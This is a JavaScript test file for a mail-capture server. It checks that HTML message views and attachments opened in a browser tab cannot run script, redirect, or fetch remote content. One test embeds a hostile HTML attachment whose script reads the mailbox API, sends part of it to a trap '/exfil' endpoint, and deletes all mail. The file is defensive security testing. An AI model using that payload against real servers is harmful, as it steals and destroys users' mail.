// What the server serves for a message outside the page, opened straight in a browser tab:
// `/view/{ID}.html` and an attachment's `/api/v1/message/{ID}/part/{PartID}`. Neither may run
// the message's script on the API's origin, follow its refresh, or fetch anything remote.

import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';

import { hostile } from './fixtures.mjs';
import { apiJson, launchBrowser, mime, sendMail, startMailsink, startTrap } from './support.mjs';

describe('message views opened in a tab', () => {
  let server;
  let trap;
  let browser;

  before(async () => {
    server = await startMailsink();
    trap = await startTrap();
    browser = await launchBrowser();
  });

  after(async () => {
    await browser?.close();
    await trap?.close();
    await server?.stop();
  });

  /** Opens `path` in a new tab, waits for what would load or run, returns what happened. */
  async function visit(path) {
    trap.requests.length = 0;
    const tab = await browser.context.newPage();
    let downloaded = false;
    try {
      await tab.goto(`${server.http}${path}`);
    } catch (err) {
      // An active document (HTML, SVG, XML) is served as a download: it never renders at all.
      if (!String(err).includes('Download is starting')) throw err;
      downloaded = true;
    }
    await tab.waitForTimeout(1500);
    const result = {
      url: tab.url(),
      remote: [...trap.requests],
      storage: await tab.evaluate(() => localStorage.getItem('pwned')).catch(() => null),
      downloaded,
    };
    await tab.close();
    return result;
  }

  it('/view/{ID}.html runs no script, follows no refresh, loads nothing remote', async () => {
    const id = await sendMail(server.smtpPort, hostile(trap.url));
    const seen = await visit(`/view/${id}.html`);
    assert.equal(seen.url, `${server.http}/view/${id}.html`, 'the message navigated the tab away');
    assert.deepEqual(seen.remote, []);
    assert.equal(seen.storage, null);
    assert.equal((await apiJson(server.http, '/api/v1/messages')).total, 1, 'the script deleted mail');
  });

  it('an HTML attachment opened in a tab cannot read or change the mailbox', async () => {
    const script = `fetch('/api/v1/messages').then((r) => r.text())
      .then((t) => fetch('${trap.url}/exfil?' + encodeURIComponent(t.slice(0, 40))));
      fetch('/api/v1/messages', { method: 'DELETE' });`;
    const id = await sendMail(server.smtpPort, {
      from: 'mallory@evil.example',
      to: ['victim@example.com'],
      data: mime({
        from: 'mallory@evil.example',
        to: ['victim@example.com'],
        subject: 'Your statement',
        text: 'Open the attachment.',
        attachments: [{ name: 'statement.html', type: 'text/html', content: `<script>${script}</script>` }],
      }),
    });
    const [part] = (await apiJson(server.http, `/api/v1/message/${id}`)).Attachments;
    const seen = await visit(`/api/v1/message/${id}/part/${part.PartID}`);
    assert.ok(seen.downloaded, 'an HTML attachment is offered as a download, not rendered');
    assert.deepEqual(seen.remote, [], 'the attachment read the mailbox and sent it away');
    assert.equal((await apiJson(server.http, '/api/v1/messages')).total, 2, 'the attachment deleted mail');
  });
});
